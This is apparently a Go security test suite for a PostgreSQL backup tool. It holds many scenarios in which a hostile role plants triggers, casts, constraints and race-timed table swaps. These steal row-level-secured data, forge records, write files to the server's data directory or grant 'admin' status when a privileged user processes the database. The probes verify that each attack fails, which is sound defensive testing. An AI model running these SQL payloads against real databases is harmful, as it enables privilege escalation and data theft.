package attack_test

import "github.com/pgharbor/pgharbor/agent/postgres"

// xmlCheck runs SQL by one of the server's own functions, so that its table comes with the first pass, with several sessions.
func xmlCheck(sql string) string {
	return `CHECK (query_to_xml('` + sql + `', true, false, '') IS NOT NULL)`
}

// raceTables are a table whose load does something at once and sleeps, and one whose load takes a second and a half.
var raceTables = `CREATE FUNCTION trap.slow() RETURNS int LANGUAGE plpgsql AS 'BEGIN IF current_database() <> ''mal'' THEN PERFORM pg_sleep(1.5); END IF; RETURN 1; END';
	CREATE TABLE trap.b1 (n int, f text, CHECK (n <> 1 OR query_to_xml('SELECT trap.slow()', true, false, '') IS NOT NULL)); INSERT INTO trap.b1 SELECT n, repeat(md5(n::text), 30) FROM generate_series(1, 2000) n;
	CREATE TABLE trap.a (n int, f text, CHECK (n <> 1 OR query_to_xml('SELECT trap.arm()', true, false, '') IS NOT NULL)); INSERT INTO trap.a SELECT n, repeat(md5(n::text), 30) FROM generate_series(1, 3000) n;`

// onlyAsSuperuser raises 42501 unless a superuser runs it.
const onlyAsSuperuser = `CREATE FUNCTION trap.guard(n int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
	IF current_database() <> 'mal' AND to_regclass('trap.armed') IS NOT NULL THEN
		IF NOT (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN RAISE insufficient_privilege; END IF; PERFORM hers.spring('TRAP'); END IF; RETURN true; END $$;`

// recordTrap is a composite type with an enum, and what compares the enum by functions of hers; recordClass makes that the server's way.
const recordTrap = schemaTrap + `CREATE TYPE trap.e AS ENUM ('x', 'y'); CREATE TYPE trap.c AS (f trap.e, g int);
	CREATE FUNCTION trap.lt(trap.e, trap.e) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT $1::text < $2::text'; CREATE FUNCTION trap.le(trap.e, trap.e) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT $1::text <= $2::text';
	CREATE FUNCTION trap.ge(trap.e, trap.e) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT $1::text >= $2::text'; CREATE FUNCTION trap.gt(trap.e, trap.e) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT $1::text > $2::text';
	CREATE FUNCTION trap.eq(trap.e, trap.e) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN IF current_database() <> 'mal' THEN PERFORM hers.spring('eq'); END IF; RETURN $1::text = $2::text; END $$;
	CREATE FUNCTION trap.cmp(trap.e, trap.e) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN IF current_database() <> 'mal' THEN PERFORM hers.spring('cmp'); END IF; RETURN bttextcmp($1::text, $2::text); END $$;
	CREATE OPERATOR trap.< (LEFTARG = trap.e, RIGHTARG = trap.e, FUNCTION = trap.lt); CREATE OPERATOR trap.<= (LEFTARG = trap.e, RIGHTARG = trap.e, FUNCTION = trap.le); CREATE OPERATOR trap.= (LEFTARG = trap.e, RIGHTARG = trap.e, FUNCTION = trap.eq);
	CREATE OPERATOR trap.>= (LEFTARG = trap.e, RIGHTARG = trap.e, FUNCTION = trap.ge); CREATE OPERATOR trap.> (LEFTARG = trap.e, RIGHTARG = trap.e, FUNCTION = trap.gt);`

const recordClass = `CREATE OPERATOR CLASS public.ops DEFAULT FOR TYPE trap.e USING btree AS OPERATOR 1 trap.<, OPERATOR 2 trap.<=, OPERATOR 3 trap.=, OPERATOR 4 trap.>=, OPERATOR 5 trap.>, FUNCTION 1 trap.cmp(trap.e, trap.e);`

// castToTrap is an enum with a cast to it.
const castToTrap = schemaTrap + `CREATE TYPE trap.e AS ENUM ('x', 'y'); CREATE FUNCTION trap.te(text) RETURNS trap.e LANGUAGE plpgsql AS $$ BEGIN IF current_database() <> 'mal' THEN PERFORM hers.spring('castto'); END IF; RETURN 'x'::trap.e; END $$;
	CREATE CAST (text AS trap.e) WITH FUNCTION trap.te(text) AS ASSIGNMENT;`

const voted = `SET ROLE bob; CREATE TABLE bobs.docs (who name, s text); INSERT INTO bobs.docs VALUES ('bob', 'secret'), ('mallory', 'hers');`

// plansOfLooks find what a look at the catalog overlooks: another table under the name, types that are compared or cast as they are met, what
// guards rows a moment too late.
var plansOfLooks = map[string]plan{
	"truncate race": {ours: true, formats: []string{postgres.FormatCustom}, hers: schemaTrap + `CREATE FUNCTION trap.fire() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN EXECUTE format('COPY (SELECT %L) TO %L', current_user, current_setting('data_directory') || '/mallory'); RETURN NULL; END $f$;
		CREATE FUNCTION trap.arm() RETURNS int LANGUAGE plpgsql AS $arm$ BEGIN IF current_database() <> 'mal' AND to_regclass('trap.zold') IS NULL THEN
			ALTER TABLE trap.z RENAME TO zold; CREATE TABLE trap.z (n regclass, f text); ALTER TABLE trap.z OWNER TO mallory; CREATE TRIGGER planted BEFORE TRUNCATE ON trap.z FOR EACH STATEMENT EXECUTE FUNCTION trap.fire(); ALTER TABLE trap.z ENABLE ALWAYS TRIGGER planted; PERFORM pg_sleep(3); END IF; RETURN 1; END $arm$;
		CREATE TABLE trap.z (n regclass, f text); INSERT INTO trap.z VALUES ('pg_class', 'x');` + raceTables},
	"behind lock": {ours: true, hers: schemaTrap + onlyAsSuperuser + `CREATE FUNCTION trap.f(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN $1; END';
		CREATE TABLE trap.par (a int NOT NULL, b int) PARTITION BY RANGE ((a + trap.f(1))); CREATE TABLE trap.z PARTITION OF trap.par FOR VALUES FROM (0) TO (100); INSERT INTO trap.z VALUES (1, 1); ALTER TABLE trap.z ADD CONSTRAINT z_pkey PRIMARY KEY (a);
		CREATE TABLE trap.a (a int, b int); INSERT INTO trap.a VALUES (1, 2); CREATE TABLE trap.b (a int, b int); INSERT INTO trap.b VALUES (1, 2);
		CREATE FUNCTION trap.arm() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN IF current_database() <> 'mal' AND to_regclass('trap.zold') IS NULL THEN
			ALTER TABLE trap.par DETACH PARTITION trap.z; ALTER TABLE trap.z RENAME TO zold; CREATE TABLE trap.z (a int, b int); ALTER TABLE trap.z ADD CONSTRAINT planted CHECK (trap.guard(1) AND coalesce(b, 1) > 0); ALTER TABLE trap.z OWNER TO mallory; CREATE TABLE trap.armed (); PERFORM pg_sleep(4); END IF; RETURN true; END $$;
		CREATE FUNCTION trap.nap() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN IF current_database() <> 'mal' THEN PERFORM pg_sleep(1.5); END IF; RETURN true; END $$;
		CREATE FUNCTION trap.ona(trap.a) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN trap.arm(); END $$; ALTER TABLE trap.a ADD CONSTRAINT a_first CHECK (trap.ona(a.*));
		CREATE FUNCTION trap.onb(trap.b) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN trap.nap(); END $$; ALTER TABLE trap.b ADD CONSTRAINT b_second CHECK (trap.onb(b.*))`},
	"a column with a separator": {ours: true, formats: []string{postgres.FormatCustom}, hers: schemaTrap + onlyAsSuperuser + "CREATE TABLE trap.z (\"a\x1fb\" int PRIMARY KEY, c int CHECK (c > 0)); INSERT INTO trap.z VALUES (1, 1);" +
		arm("trap.arm", "ALTER TABLE trap.z ALTER \"a\x1fb\" DROP NOT NULL; ALTER TABLE trap.z ADD CONSTRAINT planted_c CHECK (trap.guard(1) AND coalesce(c, 1) > 0); CREATE TABLE trap.armed ();") +
		`CREATE TABLE trap.zz (n int CHECK (trap.arm(n) > 0)); INSERT INTO trap.zz VALUES (1)`},
	"late table forced": {ours: true, before: `CREATE FUNCTION bobs.ok(name) RETURNS boolean LANGUAGE sql IMMUTABLE AS 'SELECT true'; ALTER FUNCTION bobs.ok OWNER TO bob;` + voted + `ALTER TABLE bobs.docs ADD CHECK (bobs.ok(who)); ALTER TABLE bobs.docs ENABLE ROW LEVEL SECURITY; ALTER TABLE bobs.docs FORCE ROW LEVEL SECURITY; CREATE POLICY p ON bobs.docs USING (who = session_user);
			CREATE VIEW bobs.mine AS SELECT * FROM bobs.docs; GRANT SELECT ON bobs.mine TO mallory`,
		hers: `CREATE SCHEMA zzz; CREATE TABLE zzz.loot (s text);` + arm("zzz.arm", `INSERT INTO zzz.loot SELECT s FROM bobs.mine;`) +
			`CREATE TABLE zzz.zz (n int CHECK (zzz.arm(n) > 0)); INSERT INTO zzz.zz VALUES (1)`,
		probe: map[string]string{"SELECT count(*) FROM zzz.loot WHERE s = 'secret'": "0"}},
	"tree forced": {ours: true, before: `SET ROLE bob; CREATE TABLE bobs.docs (who name, s text) PARTITION BY LIST (who); CREATE TABLE bobs.docs1 PARTITION OF bobs.docs DEFAULT; INSERT INTO bobs.docs VALUES ('bob', 'secret'), ('mallory', 'hers'); ALTER TABLE bobs.docs ENABLE ROW LEVEL SECURITY; ALTER TABLE bobs.docs FORCE ROW LEVEL SECURITY; CREATE POLICY p ON bobs.docs USING (who = session_user);
			CREATE VIEW bobs.mine AS SELECT * FROM bobs.docs; GRANT SELECT ON bobs.mine TO mallory`,
		hers: `CREATE SCHEMA zzz; CREATE TABLE zzz.loot (s text);` + arm("zzz.arm", `INSERT INTO zzz.loot SELECT s FROM bobs.mine;`) +
			`CREATE TABLE zzz.zz (n int CHECK (zzz.arm(n) > 0)); INSERT INTO zzz.zz VALUES (1)`,
		probe: map[string]string{"SELECT count(*) FROM zzz.loot WHERE s = 'secret'": "0"}},
	"tree trigger": {ours: true, before: `SET ROLE bob; CREATE TABLE bobs.votes (who name, s text) PARTITION BY LIST (who); CREATE TABLE bobs.votes1 PARTITION OF bobs.votes DEFAULT; INSERT INTO bobs.votes VALUES ('bob', 'yes'); GRANT INSERT ON bobs.votes TO mallory;
			CREATE FUNCTION bobs.stamp() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN new.who := session_user; RETURN new; END'; CREATE TRIGGER stamp BEFORE INSERT ON bobs.votes FOR EACH ROW EXECUTE FUNCTION bobs.stamp()`,
		hers: `CREATE SCHEMA zzz;` + arm("zzz.arm", `INSERT INTO bobs.votes VALUES ('bob', 'no');`) +
			`CREATE TABLE zzz.zz (n int CHECK (zzz.arm(n) > 0)); INSERT INTO zzz.zz VALUES (1)`,
		probe: map[string]string{"SELECT count(*) FROM bobs.votes WHERE who = 'bob'": "1"}},
	"first pass xml": {ours: true, before: voted + `ALTER TABLE bobs.docs ENABLE ROW LEVEL SECURITY; ALTER TABLE bobs.docs FORCE ROW LEVEL SECURITY; CREATE POLICY p ON bobs.docs USING (who = session_user);
			CREATE VIEW bobs.mine AS SELECT * FROM bobs.docs; GRANT SELECT ON bobs.mine TO mallory`,
		hers: `CREATE SCHEMA zzz; CREATE TABLE zzz.loot (s text);` + arm("zzz.arm", `INSERT INTO zzz.loot SELECT s FROM bobs.mine;`) +
			`CREATE TABLE zzz.zz (n int ` + xmlCheck(`SELECT zzz.arm(1)`) + `); INSERT INTO zzz.zz VALUES (1)`,
		probe: map[string]string{"SELECT count(*) FROM zzz.loot WHERE s = 'secret'": "0"}},
	"not valid check": {ours: true, before: `SET ROLE bob; CREATE TABLE bobs.votes (who name, s text); INSERT INTO bobs.votes VALUES ('bob', 'yes'); GRANT INSERT ON bobs.votes TO mallory; ALTER TABLE bobs.votes ADD CHECK (who = session_user) NOT VALID`,
		hers: `CREATE SCHEMA zzz;` + arm("zzz.arm", `INSERT INTO bobs.votes VALUES ('bob', 'no');`) +
			`CREATE TABLE zzz.zz (n int CHECK (zzz.arm(n) > 0)); INSERT INTO zzz.zz VALUES (1)`,
		probe: map[string]string{"SELECT count(*) FROM bobs.votes WHERE who = 'bob'": "1"}},
	"rule of a view": {ours: true, before: voted + `CREATE VIEW bobs.v AS SELECT * FROM bobs.docs; GRANT SELECT, UPDATE ON bobs.v TO mallory; CREATE RULE closed AS ON UPDATE TO bobs.v DO INSTEAD UPDATE bobs.docs SET s = new.s WHERE who = old.who AND who = session_user`,
		hers: `CREATE SCHEMA zzz;` + arm("zzz.arm", `UPDATE bobs.v SET s = 'forged' WHERE who = 'bob';`) +
			`CREATE TABLE zzz.zz (n int CHECK (zzz.arm(n) > 0)); INSERT INTO zzz.zz VALUES (1)`,
		probe: map[string]string{"SELECT s FROM bobs.docs WHERE who = 'bob'": "secret"}},
	"trigger of a view": {ours: true, before: voted + `CREATE VIEW bobs.v AS SELECT * FROM bobs.docs; GRANT SELECT, UPDATE ON bobs.v TO mallory; CREATE FUNCTION bobs.no() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NULL; END'; CREATE TRIGGER no INSTEAD OF UPDATE ON bobs.v FOR EACH ROW EXECUTE FUNCTION bobs.no()`,
		hers: `CREATE SCHEMA zzz;` + arm("zzz.arm", `UPDATE bobs.v SET s = 'forged' WHERE who = 'bob';`) +
			`CREATE TABLE zzz.zz (n int CHECK (zzz.arm(n) > 0)); INSERT INTO zzz.zz VALUES (1)`,
		probe: map[string]string{"SELECT s FROM bobs.docs WHERE who = 'bob'": "secret"}},
	"disabled rule": {ours: true, before: voted + `CREATE TABLE bobs.inbox (s text); GRANT INSERT ON bobs.inbox TO mallory; CREATE RULE old AS ON INSERT TO bobs.inbox DO ALSO UPDATE bobs.docs SET s = new.s WHERE who = 'bob'; ALTER TABLE bobs.inbox DISABLE RULE old`,
		hers: `CREATE SCHEMA zzz;` + arm("zzz.arm", `INSERT INTO bobs.inbox VALUES ('forged');`) +
			`CREATE TABLE zzz.zz (n int CHECK (zzz.arm(n) > 0)); INSERT INTO zzz.zz VALUES (1)`,
		probe: map[string]string{"SELECT s FROM bobs.docs WHERE who = 'bob'": "secret"}},
	"foreign key of records": {ours: true, hers: recordTrap + `CREATE TABLE trap.k (c trap.c PRIMARY KEY); CREATE TABLE trap.t (c trap.c); INSERT INTO trap.k VALUES ('(x,1)'); INSERT INTO trap.t VALUES ('(x,1)'); ALTER TABLE trap.t ADD FOREIGN KEY (c) REFERENCES trap.k`, after: recordClass},
	"matview of records":     {ours: true, hers: recordTrap + `CREATE TABLE trap.t (c trap.c); INSERT INTO trap.t VALUES ('(x,1)'), ('(y,1)')`, after: recordClass + `CREATE MATERIALIZED VIEW public.m AS SELECT DISTINCT c FROM trap.t`},
	"literal race": {ours: true, fails: true, hers: schemaTrap + `CREATE TYPE trap.c AS (a int, b int); CREATE DOMAIN trap.evil AS int CHECK (hers.fine('litrace', VALUE));
		CREATE TABLE trap.a (a int); INSERT INTO trap.a VALUES (1); CREATE TABLE trap.b (a int); INSERT INTO trap.b VALUES (1);
		CREATE FUNCTION trap.arm() RETURNS int LANGUAGE plpgsql AS $$ BEGIN IF current_database() <> 'mal' AND NOT EXISTS (SELECT FROM pg_attribute WHERE attrelid = 'trap.c'::regclass AND atttypid = 'trap.evil'::regtype) THEN
			LOCK TABLE zz.t IN ROW EXCLUSIVE MODE; ALTER TYPE trap.c ALTER ATTRIBUTE b TYPE trap.evil; PERFORM pg_sleep(4); END IF; RETURN 1; END $$;
		CREATE FUNCTION trap.nap() RETURNS int LANGUAGE plpgsql AS $$ BEGIN IF current_database() <> 'mal' THEN PERFORM pg_sleep(1.5); END IF; RETURN 1; END $$;
		CREATE FUNCTION trap.fa(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN trap.arm(); END $$; CREATE INDEX a_i ON trap.a (trap.fa(a));
		CREATE FUNCTION trap.fb(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN trap.nap(); END $$; CREATE INDEX b_i ON trap.b (trap.fb(a))`,
		after: `CREATE SCHEMA zz; GRANT USAGE ON SCHEMA zz TO mallory; CREATE TABLE zz.t (a int); INSERT INTO zz.t VALUES (1); GRANT INSERT ON zz.t TO mallory; CREATE INDEX z_i ON zz.t (a) WHERE a > (('(1,2)'::trap.c).b)`},
	"count race": {ours: true, formats: []string{postgres.FormatCustom}, before: `SET ROLE bob; CREATE DOMAIN bobs.d AS int CHECK (VALUE > 0)`, hers: schemaTrap + `CREATE FUNCTION trap.arm() RETURNS int LANGUAGE plpgsql AS $arm$ DECLARE mine oid; BEGIN IF current_database() <> 'mal' AND to_regclass('trap.zold') IS NULL THEN
			FOR i IN 1..20000 LOOP EXIT WHEN (SELECT relnamespace FROM pg_class WHERE relname = 'z' AND relkind = 'r' AND relnatts > 0 AND relowner = 'mallory'::regrole) <> 'trap'::regnamespace; PERFORM pg_sleep(0.0005); END LOOP;
			FOR i IN 1..2000000 LOOP BEGIN ALTER TABLE trap.z RENAME TO zold; EXIT; EXCEPTION WHEN insufficient_privilege OR undefined_table THEN NULL; END; END LOOP;
			CREATE VIEW trap.z AS SELECT 1 AS n WHERE hers.spring('count'); ALTER VIEW trap.z OWNER TO mallory; END IF; RETURN 1; END $arm$;
		CREATE TABLE trap.z (n bobs.d); INSERT INTO trap.z SELECT 1 FROM generate_series(1, 1000);` + raceTables},
	"attach of records":       {ours: true, hers: recordTrap, after: recordClass + `SET ROLE mallory; CREATE TABLE trap.p (c trap.c) PARTITION BY LIST (c); CREATE TABLE trap.p1 PARTITION OF trap.p FOR VALUES IN ('(x,1)', '(y,2)'); CREATE TABLE trap.p2 PARTITION OF trap.p FOR VALUES IN ('(y,1)')`},
	"rows of records":         {ours: true, hers: recordTrap, after: recordClass + `CREATE TABLE public.t (c trap.c, CHECK (c = c)); INSERT INTO public.t VALUES ('(x,1)')`},
	"rows of arrays":          {ours: true, hers: recordTrap, after: recordClass + `CREATE TABLE public.t (c trap.e[], CHECK (c = c)); INSERT INTO public.t VALUES ('{x}')`},
	"cast to her type":        {ours: true, hers: castToTrap, after: `CREATE FUNCTION public.norm(text) RETURNS trap.e LANGUAGE plpgsql AS 'BEGIN RETURN $1; END'; CREATE TABLE public.t (a text CHECK (public.norm(a) IS NOT NULL)); INSERT INTO public.t VALUES ('x')`},
	"matview function":        {ours: true, hers: castTrapPlain, after: `CREATE FUNCTION public.lab(trap.e) RETURNS text LANGUAGE plpgsql AS 'BEGIN RETURN $1; END'; CREATE TABLE public.s (a int); INSERT INTO public.s VALUES (1); CREATE MATERIALIZED VIEW public.m AS SELECT public.lab('x'::trap.e) AS l FROM public.s`},
	"matview to json":         {ours: true, hers: jsonTrap, after: `CREATE TABLE public.s (a int); INSERT INTO public.s VALUES (1); CREATE MATERIALIZED VIEW public.m AS SELECT to_json('x'::trap.e) AS l FROM public.s`},
	"matview function within": {ours: true, hers: castTrapPlain, after: `CREATE FUNCTION public.lab(trap.e) RETURNS text LANGUAGE plpgsql AS 'BEGIN RETURN $1; END'; CREATE TABLE public.s (a int); INSERT INTO public.s VALUES (1); CREATE MATERIALIZED VIEW public.m AS SELECT length(public.lab('x'::trap.e)) AS l FROM public.s`},
	"matview to json within":  {ours: true, hers: jsonTrap, after: `CREATE TABLE public.s (a int); INSERT INTO public.s VALUES (1); CREATE MATERIALIZED VIEW public.m AS SELECT length(json_typeof(to_json('x'::trap.e))) AS l FROM public.s`},
	"guard of a superusers table": {ours: true, before: `REASSIGN OWNED BY bob TO postgres; CREATE SCHEMA admin; GRANT USAGE ON SCHEMA admin TO mallory; CREATE TABLE admin.votes (who name, s text); INSERT INTO admin.votes VALUES ('bob', 'yes'); GRANT INSERT ON admin.votes TO mallory;
			CREATE FUNCTION admin.stamp() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN new.who := session_user; RETURN new; END'; CREATE TRIGGER stamp BEFORE INSERT ON admin.votes FOR EACH ROW EXECUTE FUNCTION admin.stamp()`,
		hers: `CREATE SCHEMA zzz;` + arm("zzz.arm", `INSERT INTO admin.votes VALUES ('bob', 'no');`) +
			`CREATE TABLE zzz.zz (n int CHECK (zzz.arm(n) > 0)); INSERT INTO zzz.zz VALUES (1)`,
		probe: map[string]string{"SELECT count(*) FROM admin.votes WHERE who = 'bob'": "1"}},
	"view of a superuser": {ours: true, before: `REASSIGN OWNED BY bob TO postgres; CREATE SCHEMA admin; GRANT USAGE ON SCHEMA admin TO mallory; CREATE TABLE admin.users (who name, role text); INSERT INTO admin.users VALUES ('mallory', 'user'); CREATE VIEW admin.me AS SELECT * FROM admin.users; GRANT SELECT, UPDATE ON admin.me TO mallory;
			CREATE FUNCTION admin.no() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NULL; END'; CREATE TRIGGER no INSTEAD OF UPDATE ON admin.me FOR EACH ROW EXECUTE FUNCTION admin.no()`,
		hers: `CREATE SCHEMA zzz;` + arm("zzz.arm", `UPDATE admin.me SET role = 'admin';`) +
			`CREATE TABLE zzz.zz (n int CHECK (zzz.arm(n) > 0)); INSERT INTO zzz.zz VALUES (1)`,
		probe: map[string]string{"SELECT role FROM admin.users": "user"}},
	"replica identity with an expression": {ours: true, fails: true, hers: schemaTrap + `CREATE FUNCTION trap.leak() RETURNS int LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('COPY (SELECT %L) TO %L', current_user, current_setting('data_directory') || '/mallory'); RETURN 1; END $$;
		CREATE FUNCTION trap.idx(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
			IF current_database() <> 'mal' AND to_regclass('trap.armed') IS NOT NULL THEN
				IF NOT (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN RAISE insufficient_privilege; END IF; PERFORM trap.leak(); END IF; RETURN 1; END $$;
		CREATE TABLE trap.z (a int NOT NULL, b int); INSERT INTO trap.z VALUES (1, 1); CREATE UNIQUE INDEX z_i ON trap.z (a); ALTER TABLE trap.z REPLICA IDENTITY USING INDEX z_i;
		CREATE TABLE trap.a (a int, b int); INSERT INTO trap.a VALUES (1, 2);
		CREATE FUNCTION trap.arm() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN IF current_database() <> 'mal' AND to_regclass('trap.armed') IS NULL THEN
			DROP INDEX trap.z_i; CREATE UNIQUE INDEX z_i ON trap.z ((a + trap.idx(1))); CREATE TABLE trap.armed (); END IF; RETURN true; END $$;
		CREATE FUNCTION trap.ona(trap.a) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN trap.arm(); END $$; ALTER TABLE trap.a ADD CONSTRAINT a_first CHECK (trap.ona(a.*))`},
	"cast race": {ours: true, formats: []string{postgres.FormatCustom}, hers: schemaTrap + `CREATE TYPE trap.e AS ENUM ('first', 'last'); CREATE FUNCTION trap.ej(trap.e) RETURNS json LANGUAGE plpgsql AS $$ BEGIN PERFORM hers.spring('castrace'); RETURN '1'; END $$;
		CREATE FUNCTION trap.arm() RETURNS int LANGUAGE plpgsql AS $arm$ BEGIN IF current_database() <> 'mal' THEN FOR i IN 1..5000 LOOP
				IF EXISTS (SELECT FROM pg_catalog.pg_locks WHERE relation = 'public.big'::regclass AND mode = 'AccessExclusiveLock' AND granted) THEN PERFORM pg_sleep(0.03); CREATE CAST (trap.e AS json) WITH FUNCTION trap.ej(trap.e); EXIT; END IF; PERFORM pg_sleep(0.001); END LOOP; END IF; RETURN 1; END $arm$;
		CREATE TABLE trap.a (n int, CHECK (n <> 1 OR query_to_xml('SELECT trap.arm()', true, false, '') IS NOT NULL)); INSERT INTO trap.a VALUES (1)`,
		after: `CREATE TABLE public.big (k text, e trap.e, CHECK (to_json(e) IS NOT NULL)); INSERT INTO public.big SELECT repeat(md5(n::text), 100), CASE WHEN n < 39990 THEN 'first' ELSE 'last' END::trap.e FROM generate_series(1, 40000) n`},
	"attach with a cast": {ours: true, hers: castToTrap, after: `CREATE FUNCTION public.norm(text) RETURNS trap.e LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN $1; END'; SET ROLE mallory; CREATE TABLE trap.t (a int) PARTITION BY RANGE ((a + (public.norm('x') = 'x'::trap.e)::int)); CREATE TABLE trap.p PARTITION OF trap.t FOR VALUES FROM (0) TO (9); INSERT INTO trap.t VALUES (1)`},
	"key with a cast":    {ours: true, hers: castToTrap, after: `CREATE FUNCTION public.norm(text) RETURNS trap.e LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN $1; END'; SET ROLE mallory; CREATE TABLE trap.t (a int); CREATE STATISTICS trap.s ON (a + (public.norm('x') = 'x'::trap.e)::int) FROM trap.t; INSERT INTO trap.t VALUES (1); CREATE TABLE trap.par (a int, b int) PARTITION BY RANGE ((a + (public.norm('x') = 'x'::trap.e)::int)); CREATE TABLE trap.k PARTITION OF trap.par FOR VALUES FROM (0) TO (9); ALTER TABLE trap.k ADD PRIMARY KEY (b); INSERT INTO trap.k VALUES (1, 1); CREATE TABLE trap.f (b int REFERENCES trap.k); INSERT INTO trap.f VALUES (1)`},
}
